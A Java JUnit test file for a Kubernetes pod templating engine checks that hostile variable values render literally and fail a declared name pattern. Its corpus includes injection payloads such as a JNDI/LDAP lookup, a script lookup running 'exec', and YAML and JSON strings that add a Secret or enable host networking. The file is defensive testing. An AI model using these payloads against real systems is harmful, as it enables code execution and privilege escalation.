package org.jupyterhub.kubespawner.templating;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.jupyterhub.kubespawner.templating.core.ErrorKind;
import org.jupyterhub.kubespawner.templating.core.TemplateError;

/**
 * Hostile values render literally (no lookups, no second expansion, no change of document structure), and a
 * declared pattern rejects them.
 */
class InjectionCorpusTest {

    static Stream<String> corpus() {
        return Stream.of(
                "{other}",
                "{value}",
                "{instance_name}",
                "{{",
                "}}",
                "${env:HOME}",
                "${sys:user.home}",
                "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
                "${dns:address|example.com}",
                "${url:UTF-8:http://example.com/}",
                "${jndi:ldap://example.com/a}",
                "$(HOME)",
                "line1\nline2\r\n",
                "quote\" and ' and `backtick`",
                "key: value\n- item\n---\nkind: Secret",
                "\", \"name\": \"INJECTED\", \"value\": \"1",
                "\"}], \"hostNetwork\": true, \"x\": [{\"a\": \"",
                "{\"a\": {\"b\": [1, 2, {\"c\": null}]}}",
                "x".repeat(10_000),
                "😀 李小龙 مرحبا \u200b\u202e zero-width and RTL",
                "nul\u0000byte",
                "\\u0041 \\n backslashes \\");
    }

    private static final CompiledTemplate TEMPLATE = CompiledTemplate.compile(CompiledTemplateTest.spec("""
      variables:
      - {name: value}
      - {name: other, default: SHOULD-NOT-APPEAR}
      - {name: user, default: ada, pattern: '[a-z0-9]([-a-z0-9]*[a-z0-9])?', maxLength: 40}
      pods:
      - name: jupyter-{user}
        annotations: {note: '{value}'}
        spec:
          containers:
          - name: nb
            image: img
            args: ['--opt={value}', '{value}']
            env:
            - {name: A, value: 'prefix-{value}-suffix'}
            - {name: B, value: '{{"json": "{value}"}}'}
      policy: {allowedImages: ['**']}
      """));

    @ParameterizedTest
    @MethodSource("corpus")
    void hostileValuesRenderLiterallyWithoutChangingStructure(String value) {
        assertThat(TEMPLATE.problems()).isEmpty();
        RenderResult result = TEMPLATE.render(Map.of("value", value), BuiltinVariables.of("i", "n", "t", "tn"));
        assertThat(result).isInstanceOf(RenderResult.Success.class);
        NotebookServer pod = ((RenderResult.Success) result).objects().notebook();
        assertThat(pod.pod().getMetadata().getAnnotations()).containsExactly(Map.entry("note", value));
        assertThat(pod.pod().getSpec().getContainers()).hasSize(1);
        Container container = pod.pod().getSpec().getContainers().get(0);
        assertThat(container.getArgs()).containsExactly("--opt=" + value, value);
        assertThat(container.getEnv())
                .extracting(EnvVar::getName, EnvVar::getValue)
                .containsExactly(
                        tuple("A", "prefix-" + value + "-suffix"), tuple("B", "{\"json\": \"" + value + "\"}"));
        assertThat(pod.pod().getSpec().getHostNetwork()).isNull();
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void aDeclaredPatternRejectsThem(String value) {
        RenderResult result = TEMPLATE.render(Map.of("user", value), BuiltinVariables.of("i", "n", "t", "tn"));
        assertThat(result).isInstanceOf(RenderResult.Failure.class);
        List<TemplateError> errors = ((RenderResult.Failure) result).errors();
        assertThat(errors).isNotEmpty().allSatisfy(e -> {
            assertThat(e.variable()).isEqualTo("user");
            assertThat(e.kind()).isIn(ErrorKind.PATTERN_MISMATCH, ErrorKind.TOO_LONG);
            assertThat(e.message()).hasSizeLessThan(400);
        });
    }
}
